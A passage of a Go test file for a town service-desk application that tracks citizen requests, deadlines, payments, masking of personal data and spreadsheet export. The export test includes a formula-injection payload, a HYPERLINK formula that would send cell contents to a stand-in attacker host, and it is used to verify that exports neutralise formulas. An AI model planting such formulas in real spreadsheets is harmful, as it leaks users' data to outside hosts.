package desk

import (
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"github.com/towndesk/towndesk"
	"github.com/towndesk/towndesk/internal/testclock"
	"github.com/towndesk/towndesk/internal/testenv"
	"github.com/towndesk/towndesk/storage"
)

// newTestDesk returns a desk of 滕州市 on a fresh database file, with the
// example 2026 holidays and a clock at 2026-02-13 09:00 (the Friday before
// the Spring Festival holiday).
func newTestDesk(t testing.TB) (*Desk, *storage.DB, *testclock.Clock) {
	t.Helper()
	db, gaz, county := testenv.Tengzhou(t)
	cal := testenv.Calendar(t, towndesk.HolidaysExample)
	clock := &testclock.Clock{}
	clock.At("2026-02-13", 9)
	db.Now = clock.Now
	return New(db, Config{County: county, Places: gaz, Calendar: cal, Now: clock.Now}), db, clock
}

func validNew() RequestNewInput {
	return RequestNewInput{
		By: "王芳", Town: "滨湖镇", Village: "前李村", Citizen: "张三", Phone: "13812345678",
		IDNumber: "110101199003071233", Kind: "代办证件", Matter: "补办第三代社保卡，联系人女儿 13987654321",
		Materials: "身份证复印件，照片、户口本",
	}
}

func mustNew(t *testing.T, d *Desk, in RequestNewInput) string {
	t.Helper()
	reply, err := d.New(context.Background(), in)
	if err != nil {
		t.Fatalf("New(%s) = %v", in.Citizen, err)
	}
	return reply.Request.ID
}

func TestDeskLifecycle(t *testing.T) {
	ctx := context.Background()
	d, db, clock := newTestDesk(t)

	reply, err := d.New(ctx, validNew())
	if err != nil {
		t.Fatal(err)
	}
	id := reply.Request.ID
	if id != "2026-0001" || reply.Request.Phone != "138****5678" || reply.Request.IDNumber != "110101********1233" {
		t.Errorf("New reply request = %s %s %s, want 2026-0001 with phone and ID masked", id, reply.Request.Phone, reply.Request.IDNumber)
	}
	if !strings.Contains(reply.Request.Matter, "139****4321") {
		t.Errorf("New reply matter = %q, want the phone in it masked", reply.Request.Matter)
	}
	if got := reply.Request.Town.Short(); got != "滕州市滨湖镇" {
		t.Errorf("New town = %s, want 滕州市滨湖镇", got)
	}

	step := func(name string, f func() (*RequestReply, error)) *RequestReply {
		t.Helper()
		r, err := f()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		return r
	}
	move := func(to string, in RequestMoveInput) *RequestReply {
		t.Helper()
		in.ID, in.By, in.To = id, "李娜", to
		return step("move "+to, func() (*RequestReply, error) { return d.Move(ctx, in) })
	}

	// Accepted on Friday 2026-02-13, 5 working days: the make-up Saturday
	// 02-14, then after the holiday 02-24 to 02-27.
	r := move("已受理", RequestMoveInput{})
	if r.Request.Due != "2026-02-27" || r.Request.Status != towndesk.StatusAccepted {
		t.Errorf("accepted: due %s status %s, want 2026-02-27 accepted", r.Request.Due, r.Request.Status)
	}
	step("assign", func() (*RequestReply, error) {
		return d.Assign(ctx, RequestAssignInput{Ref: Ref{ID: id, By: "王芳"}, Assignee: "李娜"})
	})
	clock.At("2026-02-24", 9)
	move("in_progress", RequestMoveInput{})
	// Waiting for the citizen from Tuesday 02-24 to Thursday 02-26: two
	// working days do not count, and the due date moves from Friday 02-27
	// past the make-up Saturday 02-28 (a working day) to Monday 03-02.
	move("waiting_citizen", RequestMoveInput{Note: "缺户口本首页"})
	clock.At("2026-02-26", 15)
	r = move("in_progress", RequestMoveInput{})
	if r.Request.Due != "2026-03-02" || !strings.Contains(r.Message, "待补材料 2 个工作日不计入，时限顺延至 2026-03-02") {
		t.Errorf("back from waiting: due %s, message %q; want 2026-03-02 and the reason", r.Request.Due, r.Message)
	}

	step("pay", func() (*RequestReply, error) {
		return d.Pay(ctx, RequestPayInput{Ref: Ref{ID: id, By: "李娜"}, Type: "收取", Amount: "50", Receipt: "NO.001"})
	})
	r = step("pay", func() (*RequestReply, error) {
		return d.Pay(ctx, RequestPayInput{Ref: Ref{ID: id, By: "李娜"}, Type: "支付", Amount: "50.00", Note: "社保卡工本费"})
	})
	if r.Balance == nil || !r.Balance.Balanced() || r.Balance.Received != 5000 {
		t.Errorf("after 收取 and 支付 50: balance %+v, want balanced with 收取 50.00", r.Balance)
	}
	clock.At("2026-03-02", 10)
	move("done", RequestMoveInput{Result: "社保卡已补办，交给本人"})

	r = step("followup", func() (*RequestReply, error) {
		return d.FollowUp(ctx, RequestFollowUpInput{Ref: Ref{ID: id, By: "王芳"}, Result: "不满意", Note: "卡面照片模糊"})
	})
	if r.Request.Status != towndesk.StatusInProgress || r.Request.Reopened != 1 {
		t.Errorf("followup 不满意: status %s reopened %d, want in_progress, 1", r.Request.Status, r.Request.Reopened)
	}
	move("done", RequestMoveInput{Result: "重新制卡"})
	r = step("followup", func() (*RequestReply, error) {
		return d.FollowUp(ctx, RequestFollowUpInput{Ref: Ref{ID: id, By: "王芳"}, Result: "满意"})
	})
	if r.Request.Status != towndesk.StatusClosed || r.Request.FollowUp != towndesk.Satisfied || r.Request.EndedAt.IsZero() {
		t.Errorf("followup 满意: %s %s ended %v, want closed 满意 with an end time", r.Request.Status, r.Request.FollowUp, r.Request.EndedAt)
	}

	// The history is complete, in order.
	events, err := db.Events(ctx, id)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, e := range events {
		got = append(got, e.By+" "+EventText(e))
	}
	want := []string{
		"王芳 登记 已登记",
		"李娜 流转 已登记 → 已受理",
		"李娜 时限 2026-02-27（代办证件承诺 5 个工作日）",
		"王芳 指派 李娜",
		"李娜 流转 已受理 → 办理中",
		"李娜 流转 办理中 → 待补材料（缺户口本首页）",
		"李娜 流转 待补材料 → 办理中",
		"李娜 时限 2026-02-27 → 2026-03-02（待补材料 2 个工作日不计入时限）",
		"李娜 收支 收取 50.00 元（票据号：NO.001）",
		"李娜 收支 支付 50.00 元（社保卡工本费）",
		"李娜 流转 办理中 → 已办结（结果：社保卡已补办，交给本人）",
		"王芳 回访 不满意（卡面照片模糊）",
		"王芳 流转 已办结 → 办理中（回访不满意）",
		"李娜 流转 办理中 → 已办结（结果：重新制卡）",
		"王芳 回访 满意",
		"王芳 流转 已办结 → 已回访归档（回访满意）",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("events mismatch (-want +got):\n%s", diff)
	}
	stored, err := db.Request(ctx, id)
	if err != nil {
		t.Fatal(err)
	}
	// Twelve changes: the creation, six moves, an assignment, two payments
	// and two follow-ups.
	if stored.Version != 12 || stored.AcceptedAt.IsZero() || stored.DoneAt.IsZero() || stored.FollowedUpAt.IsZero() {
		t.Errorf("stored request version %d accepted %v done %v followed up %v; want version 12 and all three times",
			stored.Version, stored.AcceptedAt, stored.DoneAt, stored.FollowedUpAt)
	}
}

// snapshot is everything a failed command must leave alone.
type snapshot struct {
	Requests []*towndesk.Request
	Entries  []towndesk.LedgerEntry
	Events   []towndesk.Event
}

func takeSnapshot(t *testing.T, db *storage.DB) snapshot {
	t.Helper()
	b, err := db.RequestBook(context.Background(), towndesk.RequestFilter{})
	if err != nil {
		t.Fatal(err)
	}
	return snapshot{b.Requests, b.Entries, b.Events}
}

func TestDeskInvalidInputsWriteNothing(t *testing.T) {
	ctx := context.Background()
	d, db, _ := newTestDesk(t)
	received := mustNew(t, d, validNew())
	working := mustNew(t, d, validNew())
	for _, to := range []string{"accepted", "in_progress"} {
		if _, err := d.Move(ctx, RequestMoveInput{Ref: Ref{ID: working, By: "李娜"}, To: to}); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := d.Pay(ctx, RequestPayInput{Ref: Ref{ID: working, By: "李娜"}, Type: "收取", Amount: "80"}); err != nil {
		t.Fatal(err)
	}
	if _, err := d.Pay(ctx, RequestPayInput{Ref: Ref{ID: working, By: "李娜"}, Type: "支付", Amount: "30.5"}); err != nil {
		t.Fatal(err)
	}

	call := func(f func() (*RequestReply, error)) func() error {
		return func() error {
			_, err := f()
			return err
		}
	}
	newWith := func(change func(*RequestNewInput)) func() error {
		in := validNew()
		change(&in)
		return call(func() (*RequestReply, error) { return d.New(ctx, in) })
	}
	pay := func(amount string) func() error {
		return call(func() (*RequestReply, error) {
			return d.Pay(ctx, RequestPayInput{Ref: Ref{ID: working, By: "李娜"}, Type: "收取", Amount: amount})
		})
	}
	move := func(id, to string, in RequestMoveInput) func() error {
		in.ID, in.By, in.To = id, "李娜", to
		return call(func() (*RequestReply, error) { return d.Move(ctx, in) })
	}
	tests := []struct {
		name string
		run  func() error
		code string
		want string
	}{
		{"bad phone", newWith(func(in *RequestNewInput) { in.Phone = "1381234567" }), towndesk.EINVALID, "电话号码「1381234567」不对"},
		{"landline without area code", newWith(func(in *RequestNewInput) { in.Phone = "5551234" }), towndesk.EINVALID, "固定电话应带区号"},
		{"bad ID check digit", newWith(func(in *RequestNewInput) { in.IDNumber = "110101199003071234" }), towndesk.EINVALID, "身份证号校验位不对，请核对：「110101********1234」"},
		{"unknown kind", newWith(func(in *RequestNewInput) { in.Kind = "办证" }), towndesk.EINVALID, "未知的代办类型「办证」"},
		{"unknown item code", newWith(func(in *RequestNewInput) { in.Item = "370481XK001" }), towndesk.EINVALID, "没有编码为 370481XK001 的事项"},
		{"unknown town", newWith(func(in *RequestNewInput) { in.Town = "火星镇" }), towndesk.ENOTFOUND, "火星镇"},
		{"town of another county", newWith(func(in *RequestNewInput) { in.Town = "滨湖镇"; in.County = "不存在县" }), towndesk.ENOTFOUND, "不存在县"},
		{"no citizen", newWith(func(in *RequestNewInput) { in.Citizen = "" }), towndesk.EINVALID, "请填写群众姓名"},
		{"no matter", newWith(func(in *RequestNewInput) { in.Matter = " " }), towndesk.EINVALID, "请填写办理事项"},
		{"no user", newWith(func(in *RequestNewInput) { in.By = "" }), towndesk.EINVALID, "请注明操作人"},
		{"zero amount", pay("0"), towndesk.EINVALID, "金额不能为零"},
		{"negative amount", pay("-5"), towndesk.EINVALID, "不能为负数"},
		{"three decimals", pay("1.005"), towndesk.EINVALID, "最多两位小数"},
		{"not a number", pay("五十"), towndesk.EINVALID, "不是数字"},
		{"absurd amount", pay("100000000"), towndesk.EINVALID, "过大"},
		{"unknown entry type", call(func() (*RequestReply, error) {
			return d.Pay(ctx, RequestPayInput{Ref: Ref{ID: working, By: "李娜"}, Type: "退款", Amount: "5"})
		}), towndesk.EINVALID, "未知收支类型「退款」"},
		{"disallowed move", move(received, "done", RequestMoveInput{Result: "x"}), towndesk.EINVALID,
			"代办当前状态为「已登记」，不能转为「已办结」；可转为：已受理（accepted）、不予受理（rejected）、已撤销（cancelled）"},
		{"unknown status", move(received, "finished", RequestMoveInput{}), towndesk.EINVALID, "未知状态「finished」"},
		{"rejected without reason", move(received, "rejected", RequestMoveInput{}), towndesk.EINVALID, "「不予受理」须写明理由"},
		{"cancelled without reason", move(working, "已撤销", RequestMoveInput{Note: "群众来电"}), towndesk.EINVALID, "「已撤销」须写明理由"},
		{"done without result", move(working, "done", RequestMoveInput{}), towndesk.EINVALID, "办结须填写办理结果"},
		{"done while unbalanced", move(working, "done", RequestMoveInput{Result: "已办"}), towndesk.EINVALID,
			"收支未平，不能办结：收取 80.00 元，支付 30.50 元，差额 49.50 元；领取 0.00 元，交付 0.00 元，差额 0.00 元"},
		{"extend without reason", call(func() (*RequestReply, error) {
			return d.Extend(ctx, RequestExtendInput{Ref: Ref{ID: working, By: "李娜"}, Days: 3})
		}), towndesk.EINVALID, "延期须写明理由"},
		{"extend zero days", call(func() (*RequestReply, error) {
			return d.Extend(ctx, RequestExtendInput{Ref: Ref{ID: working, By: "李娜"}, Days: 0, Reason: "x"})
		}), towndesk.EINVALID, "延期天数"},
		{"extend before acceptance", call(func() (*RequestReply, error) {
			return d.Extend(ctx, RequestExtendInput{Ref: Ref{ID: received, By: "李娜"}, Days: 3, Reason: "部门系统故障"})
		}), towndesk.EINVALID, "只有已受理、尚未办结的代办才能延期"},
		{"follow-up before done", call(func() (*RequestReply, error) {
			return d.FollowUp(ctx, RequestFollowUpInput{Ref: Ref{ID: working, By: "王芳"}, Result: "满意"})
		}), towndesk.EINVALID, "当前状态为「办理中」"},
		{"unknown follow-up result", call(func() (*RequestReply, error) {
			return d.FollowUp(ctx, RequestFollowUpInput{Ref: Ref{ID: working, By: "王芳"}, Result: "很好"})
		}), towndesk.EINVALID, "回访结果「很好」无效"},
		{"empty note", call(func() (*RequestReply, error) {
			return d.Note(ctx, RequestNoteInput{Ref: Ref{ID: working, By: "王芳"}, Text: " "})
		}), towndesk.EINVALID, "备注内容不能为空"},
		{"assign to the current assignee twice", func() error {
			if _, err := d.Assign(ctx, RequestAssignInput{Ref: Ref{ID: received, By: "王芳"}, Assignee: "赵六"}); err != nil {
				return err
			}
			_, err := d.Assign(ctx, RequestAssignInput{Ref: Ref{ID: received, By: "王芳"}, Assignee: "赵六"})
			return err
		}, towndesk.EINVALID, "已由 赵六 承办"},
		{"unknown id", call(func() (*RequestReply, error) {
			return d.Note(ctx, RequestNoteInput{Ref: Ref{ID: "2026-0999", By: "王芳"}, Text: "x"})
		}), towndesk.ENOTFOUND, "没有编号为 2026-0999 的代办"},
		{"stale version", call(func() (*RequestReply, error) {
			return d.Note(ctx, RequestNoteInput{Ref: Ref{ID: working, By: "王芳", Version: 1}, Text: "x"})
		}), towndesk.ECONFLICT, "该代办已被他人修改，请刷新后重试"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			before := takeSnapshot(t, db)
			err := tt.run()
			if towndesk.ErrorCode(err) != tt.code || !strings.Contains(towndesk.ErrorMessage(err), tt.want) {
				t.Errorf("%s = %v, want %s containing %q", tt.name, err, tt.code, tt.want)
			}
			if tt.name == "assign to the current assignee twice" {
				return // the first assignment was meant to be written
			}
			if diff := cmp.Diff(before, takeSnapshot(t, db)); diff != "" {
				t.Errorf("%s wrote something (-before +after):\n%s", tt.name, diff)
			}
		})
	}
}

func TestDeskTownResolution(t *testing.T) {
	ctx := context.Background()
	d, _, _ := newTestDesk(t)
	noCounty := New(d.db, Config{Places: d.places, Calendar: d.cal, Now: d.now})
	tests := []struct {
		name     string
		desk     *Desk
		town     string
		county   string
		want     string // Place.String(); "" for an error
		wantCode string
	}{
		{"desk county", d, "滨湖镇", "", "山东省滕州市滨湖镇", ""},
		{"short town name", d, "龙阳", "", "山东省滕州市龙阳镇", ""},
		{"county and town in one", noCounty, "滕州市滨湖镇", "", "山东省滕州市滨湖镇", ""},
		{"another county named in the town", d, "昌吉市滨湖镇", "", "新疆维吾尔自治区昌吉市滨湖镇", ""},
		{"county given apart", noCounty, "滨湖镇", "昌吉市", "新疆维吾尔自治区昌吉市滨湖镇", ""},
		// Two counties have a 滨湖镇: the desk asks which (issue 13 made
		// this an ambiguity listing both; it was "not found").
		{"town alone without a desk county", noCounty, "滨湖镇", "", "", towndesk.EINVALID},
		{"town unique in the country", noCounty, "佛堂镇", "", "浙江省义乌市佛堂镇", ""},
		{"no such town", d, "火星镇", "", "", towndesk.ENOTFOUND},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			in := validNew()
			in.Town, in.County = tt.town, tt.county
			reply, err := tt.desk.New(ctx, in)
			if tt.want == "" {
				if towndesk.ErrorCode(err) != tt.wantCode {
					t.Errorf("New(town %q, county %q) = %v, want %s", tt.town, tt.county, err, tt.wantCode)
				}
				return
			}
			if err != nil {
				t.Fatalf("New(town %q, county %q) = %v", tt.town, tt.county, err)
			}
			if got := reply.Request.Town.String(); got != tt.want || reply.Request.Town.TownCode == "" {
				t.Errorf("New(town %q, county %q) town = %s (%s), want %s", tt.town, tt.county, got, reply.Request.Town.TownCode, tt.want)
			}
		})
	}
}

func TestDeskShowMasksAndRecordsReveal(t *testing.T) {
	ctx := context.Background()
	d, db, _ := newTestDesk(t)
	id := mustNew(t, d, validNew())
	if _, err := d.Note(ctx, RequestNoteInput{Ref: Ref{ID: id, By: "王芳"}, Text: "群众说换号了：13700001111"}); err != nil {
		t.Fatal(err)
	}
	show, err := d.Show(ctx, RequestShowInput{ID: id, By: "王芳"})
	if err != nil {
		t.Fatal(err)
	}
	text := show.Text()
	for _, secret := range []string{"13812345678", "110101199003071233", "13987654321", "13700001111"} {
		if strings.Contains(text, secret) {
			t.Errorf("Show text contains %s unmasked:\n%s", secret, text)
		}
	}
	for _, masked := range []string{"138****5678", "110101********1233", "139****4321", "137****1111"} {
		if !strings.Contains(text, masked) {
			t.Errorf("Show text lacks %s:\n%s", masked, text)
		}
	}
	if !strings.Contains(text, "可转为：已受理（accepted）、不予受理（rejected）、已撤销（cancelled）") {
		t.Errorf("Show text lacks the next steps:\n%s", text)
	}

	revealed, err := d.Show(ctx, RequestShowInput{ID: id, By: "赵六", Reveal: true})
	if err != nil {
		t.Fatal(err)
	}
	if revealed.Request.Phone != "13812345678" || revealed.Request.IDNumber != "110101199003071233" {
		t.Errorf("Show(reveal) phone %s ID %s, want them in full", revealed.Request.Phone, revealed.Request.IDNumber)
	}
	last := revealed.Events[len(revealed.Events)-1]
	if last.Type != towndesk.EventRevealed || last.By != "赵六" {
		t.Errorf("after Show(reveal) last event = %+v, want a reveal by 赵六", last)
	}
	// Viewing changes nothing about the request: no one's version goes stale.
	if r, _ := db.Request(ctx, id); r.Version != 2 {
		t.Errorf("version after reveal = %d, want 2", r.Version)
	}
}

func TestDeskListFilters(t *testing.T) {
	ctx := context.Background()
	d, _, clock := newTestDesk(t)
	a := mustNew(t, d, validNew())
	other := validNew()
	other.Town, other.Kind = "龙阳镇", "缴纳费用"
	b := mustNew(t, d, other)
	clock.At("2026-03-02", 9)
	c := mustNew(t, d, validNew())
	if _, err := d.Move(ctx, RequestMoveInput{Ref: Ref{ID: b, By: "李娜"}, To: "accepted"}); err != nil {
		t.Fatal(err)
	}
	// b is due 2 working days after 03-02: 03-04. On 03-09 it is 3 working days late.
	clock.At("2026-03-09", 9)
	tests := []struct {
		name string
		in   RequestFilterInput
		want []string
	}{
		{"all", RequestFilterInput{}, []string{c, b, a}},
		{"Chinese status", RequestFilterInput{Status: "已登记"}, []string{c, a}},
		{"town by short name", RequestFilterInput{Town: "龙阳"}, []string{b}},
		{"kind", RequestFilterInput{Kind: "缴纳费用"}, []string{b}},
		{"overdue", RequestFilterInput{Overdue: true}, []string{b}},
		{"since", RequestFilterInput{Since: "2026-03-01"}, []string{c}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			reply, err := d.List(ctx, RequestListInput{RequestFilterInput: tt.in})
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, r := range reply.Rows {
				got = append(got, r.ID)
				if r.Phone != "138****5678" {
					t.Errorf("List row %s phone %s, want masked", r.ID, r.Phone)
				}
			}
			if diff := cmp.Diff(tt.want, got); diff != "" || reply.Total != len(tt.want) {
				t.Errorf("List(%s) = %v total %d, want %v", tt.name, got, reply.Total, tt.want)
			}
		})
	}
	reply, err := d.List(ctx, RequestListInput{RequestFilterInput: RequestFilterInput{Overdue: true}})
	if err != nil {
		t.Fatal(err)
	}
	if reply.Rows[0].DaysLate != 3 || !strings.Contains(reply.Text(), "时限:2026-03-04（超期 3 个工作日）") {
		t.Errorf("overdue row: days late %d, text %q; want 3", reply.Rows[0].DaysLate, reply.Text())
	}
	for _, in := range []RequestFilterInput{{Status: "closedd"}, {Kind: "办证"}, {Since: "三月"}, {Town: "火星镇"}} {
		if _, err := d.List(ctx, RequestListInput{RequestFilterInput: in}); err == nil {
			t.Errorf("List(%+v) = nil error, want one", in)
		}
	}
}

func TestDeskExport(t *testing.T) {
	ctx := context.Background()
	d, db, _ := newTestDesk(t)
	in := validNew()
	in.Citizen = "@张三"
	in.Village = "-前李村"
	in.Matter = `=HYPERLINK("http://evil.example/?"&A1,"点我")`
	id := mustNew(t, d, in)
	if _, err := d.Move(ctx, RequestMoveInput{Ref: Ref{ID: id, By: "李娜"}, To: "accepted"}); err != nil {
		t.Fatal(err)
	}
	if _, err := d.Pay(ctx, RequestPayInput{Ref: Ref{ID: id, By: "李娜"}, Type: "收取", Amount: "12.5", Note: "+1 元手续费 13812345678"}); err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	file := filepath.Join(dir, "台账.xlsx")
	reply, err := d.Export(ctx, RequestExportInput{By: "王芳", File: file})
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(&RequestExportReply{File: file, Requests: 1, Entries: 1, Events: 4}, reply); diff != "" {
		t.Errorf("Export reply mismatch (-want +got):\n%s", diff)
	}

	x, err := excelize.OpenFile(file)
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	if diff := cmp.Diff([]string{SheetRequests, SheetMoney, SheetEvents}, x.GetSheetList()); diff != "" {
		t.Errorf("sheets mismatch (-want +got):\n%s", diff)
	}
	// Every non-empty cell of every sheet: no formula, and text is text.
	for _, sheet := range x.GetSheetList() {
		rows, err := x.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				if v == "" {
					continue
				}
				axis, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if f, _ := x.GetCellFormula(sheet, axis); f != "" {
					t.Errorf("%s!%s has formula %q", sheet, axis, f)
				}
				if strings.ContainsAny(v[:1], "=+-@") {
					typ, _ := x.GetCellType(sheet, axis)
					style, _ := x.GetCellStyle(sheet, axis)
					st, _ := x.GetStyle(style)
					if typ != excelize.CellTypeInlineString || st == nil || st.NumFmt != 49 {
						t.Errorf("%s!%s = %q: type %v, number format %v; want an inline string formatted as text", sheet, axis, v, typ, st)
					}
				}
				for _, secret := range []string{"13812345678", "110101199003071233", "13987654321"} {
					if strings.Contains(v, secret) {
						t.Errorf("%s!%s = %q shows %s unmasked", sheet, axis, v, secret)
					}
				}
			}
		}
	}
	cells := map[string]string{"B2": "", "F2": "@张三", "E2": "-前李村", "G2": "138****5678", "H2": "110101********1233", "J2": in.Matter}
	cells["B2"] = "已受理"
	for axis, want := range cells {
		if got, _ := x.GetCellValue(SheetRequests, axis); got != want {
			t.Errorf("%s!%s = %q, want %q", SheetRequests, axis, got, want)
		}
	}
	if typ, _ := x.GetCellType(SheetMoney, "D2"); typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
		t.Errorf("amount cell type = %v, want a number", typ)
	}
	if got, _ := x.GetCellValue(SheetMoney, "D2"); got != "12.50" {
		t.Errorf("amount = %q, want 12.50", got)
	}

	// --full shows the numbers and records who exported them.
	full := filepath.Join(dir, "full.xlsx")
	if _, err := d.Export(ctx, RequestExportInput{By: "赵六", File: full, Full: true}); err != nil {
		t.Fatal(err)
	}
	fx, err := excelize.OpenFile(full)
	if err != nil {
		t.Fatal(err)
	}
	defer fx.Close()
	if got, _ := fx.GetCellValue(SheetRequests, "G2"); got != "13812345678" {
		t.Errorf("full export phone = %q, want 13812345678", got)
	}
	events, _ := db.Events(ctx, id)
	if last := events[len(events)-1]; last.Type != towndesk.EventRevealed || last.By != "赵六" {
		t.Errorf("after a full export last event = %+v, want a reveal by 赵六", last)
	}

	if _, err := d.Export(ctx, RequestExportInput{By: "王芳", File: filepath.Join(dir, "台账.csv")}); towndesk.ErrorCode(err) != towndesk.EINVALID {
		t.Errorf("Export(.csv) = %v, want EINVALID", err)
	}
}

func TestWriteFileAtomic(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "台账.xlsx")
	if err := os.WriteFile(path, []byte("old"), 0o600); err != nil {
		t.Fatal(err)
	}
	// A write that dies halfway leaves the old file and no litter.
	err := writeFileAtomic(path, func(w io.Writer) error {
		w.Write([]byte("half of the new"))
		return errors.New("killed")
	})
	if err == nil {
		t.Fatal("writeFileAtomic with a failing write = nil, want the error")
	}
	if b, _ := os.ReadFile(path); string(b) != "old" {
		t.Errorf("after a failed write the file holds %q, want %q", b, "old")
	}
	if entries, _ := os.ReadDir(dir); len(entries) != 1 {
		t.Errorf("after a failed write the directory holds %d files, want 1", len(entries))
	}
	if err := writeFileAtomic(path, func(w io.Writer) error { _, err := w.Write([]byte("new")); return err }); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(path); string(b) != "new" {
		t.Errorf("after a write the file holds %q, want %q", b, "new")
	}
	if fi, _ := os.Stat(path); fi.Mode().Perm() != 0o600 {
		t.Errorf("exported file mode = %v, want 0600 (it holds personal data)", fi.Mode().Perm())
	}
}

// TestDeskConcurrentWorkers has several workers act on what they all saw
// (version 1) at the same moment: one wins, the others are told to reload.
func TestDeskConcurrentWorkers(t *testing.T) {
	ctx := context.Background()
	d, db, _ := newTestDesk(t)
	id := mustNew(t, d, validNew())
	const workers = 6
	errs := make(chan error, workers)
	var wg sync.WaitGroup
	for w := range workers {
		wg.Go(func() {
			_, err := d.Assign(ctx, RequestAssignInput{Ref: Ref{ID: id, By: "王芳", Version: 1}, Assignee: fmt.Sprintf("工作人员%d", w)})
			errs <- err
		})
	}
	wg.Wait()
	close(errs)
	wins := 0
	for err := range errs {
		switch towndesk.ErrorCode(err) {
		case "":
			wins++
		case towndesk.ECONFLICT:
			if msg := towndesk.ErrorMessage(err); msg != "该代办已被他人修改，请刷新后重试" {
				t.Errorf("conflict message = %q", msg)
			}
		default:
			t.Errorf("Assign = %v, want success or ECONFLICT", err)
		}
	}
	events, _ := db.Events(ctx, id)
	if r, _ := db.Request(ctx, id); wins != 1 || r.Version != 2 || len(events) != 2 {
		t.Errorf("%d workers on version 1: %d won, version %d, %d events; want 1, 2, 2", workers, wins, r.Version, len(events))
	}
}

// BenchmarkDeskLifecycle measures the whole desk path: create, accept,
// start and finish a request through the handlers, on a database file.
//
//	go test ./handlers/desk -run '^$' -bench DeskLifecycle -benchtime 3000x
func BenchmarkDeskLifecycle(b *testing.B) {
	ctx := context.Background()
	d, _, _ := newTestDesk(b)
	in := validNew()
	for b.Loop() {
		reply, err := d.New(ctx, in)
		if err != nil {
			b.Fatal(err)
		}
		id := reply.Request.ID
		for _, m := range []RequestMoveInput{{To: "accepted"}, {To: "in_progress"}, {To: "done", Result: "已办结"}} {
			m.ID, m.By = id, "李娜"
			if _, err := d.Move(ctx, m); err != nil {
				b.Fatal(err)
			}
		}
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "requests/s")
}

// TestDeskReverse corrects a mistyped amount: the reversal references the
// entry, the balance counts both, done is allowed once it balances, and
// show and the export say which entry cancels which.
func TestDeskReverse(t *testing.T) {
	ctx := context.Background()
	d, _, _ := newTestDesk(t)
	id := mustNew(t, d, validNew())
	for _, to := range []string{"accepted", "in_progress"} {
		if _, err := d.Move(ctx, RequestMoveInput{Ref: Ref{ID: id, By: "李娜"}, To: to}); err != nil {
			t.Fatal(err)
		}
	}
	pay := func(typ, amount string) {
		t.Helper()
		if _, err := d.Pay(ctx, RequestPayInput{Ref: Ref{ID: id, By: "李娜"}, Type: typ, Amount: amount}); err != nil {
			t.Fatal(err)
		}
	}
	pay("收取", "200") // meant 20
	pay("支付", "20")
	pay("收取", "20")
	show, err := d.Show(ctx, RequestShowInput{ID: id, By: "李娜"})
	if err != nil {
		t.Fatal(err)
	}
	wrong := show.Entries[0].ID
	if _, err := d.Move(ctx, RequestMoveInput{Ref: Ref{ID: id, By: "李娜"}, To: "done", Result: "已办好"}); err == nil {
		t.Fatal("done with 收取 220 and 支付 20 succeeded, want refused")
	}
	entry := fmt.Sprintf("#%d", wrong)
	reply, err := d.Reverse(ctx, RequestReverseInput{Ref: Ref{ID: id, By: "王芳"}, Entry: entry, Reason: "金额录错，应为 20 元"})
	if err != nil {
		t.Fatal(err)
	}
	if reply.Balance == nil || !reply.Balance.Balanced() || !strings.Contains(reply.Message, "已冲正收支 "+entry+"（收取 200.00 元）") {
		t.Errorf("Reverse(%s) = %q, balance %v; want it named and the ledger balanced", entry, reply.Message, reply.Balance)
	}
	for _, tt := range []struct {
		in   RequestReverseInput
		code string
	}{
		{RequestReverseInput{Ref: Ref{ID: id, By: "王芳"}, Entry: entry, Reason: "再冲一次"}, towndesk.EINVALID},
		{RequestReverseInput{Ref: Ref{ID: id, By: "王芳"}, Entry: "abc", Reason: "录错"}, towndesk.EINVALID},
		{RequestReverseInput{Ref: Ref{ID: id, By: "王芳"}, Entry: "#99999", Reason: "录错"}, towndesk.ENOTFOUND},
		{RequestReverseInput{Ref: Ref{ID: id, By: "王芳"}, Entry: fmt.Sprint(wrong + 1), Reason: ""}, towndesk.EINVALID},
	} {
		if _, err := d.Reverse(ctx, tt.in); towndesk.ErrorCode(err) != tt.code {
			t.Errorf("Reverse(%q, %q) = %v, want %s", tt.in.Entry, tt.in.Reason, err, tt.code)
		}
	}
	show, err = d.Show(ctx, RequestShowInput{ID: id, By: "李娜"})
	if err != nil {
		t.Fatal(err)
	}
	if len(show.Entries) != 4 {
		t.Fatalf("ledger has %d entries after the refused reversals, want 4", len(show.Entries))
	}
	rev := show.Entries[3].ID
	text := show.Text()
	for _, want := range []string{
		fmt.Sprintf("#%d", wrong), fmt.Sprintf("收取 200.00 元  李娜（已由 #%d 冲正）", rev),
		fmt.Sprintf("#%d", rev), fmt.Sprintf("冲正 #%d：收取 -200.00 元  王芳  理由：金额录错，应为 20 元", wrong),
		"收支：收取 20.00 元，支付 20.00 元，差额 0.00 元", fmt.Sprintf("冲正 #%d 收取 200.00 元 → 收取 -200.00 元（理由：", wrong),
	} {
		if !strings.Contains(text, want) {
			t.Errorf("show lacks %q:\n%s", want, text)
		}
	}
	if _, err := d.Move(ctx, RequestMoveInput{Ref: Ref{ID: id, By: "李娜"}, To: "done", Result: "已办好"}); err != nil {
		t.Errorf("done after the reversal: %v", err)
	}

	file := filepath.Join(t.TempDir(), "台账.xlsx")
	if _, err := d.Export(ctx, RequestExportInput{By: "王芳", File: file}); err != nil {
		t.Fatal(err)
	}
	x, err := excelize.OpenFile(file)
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
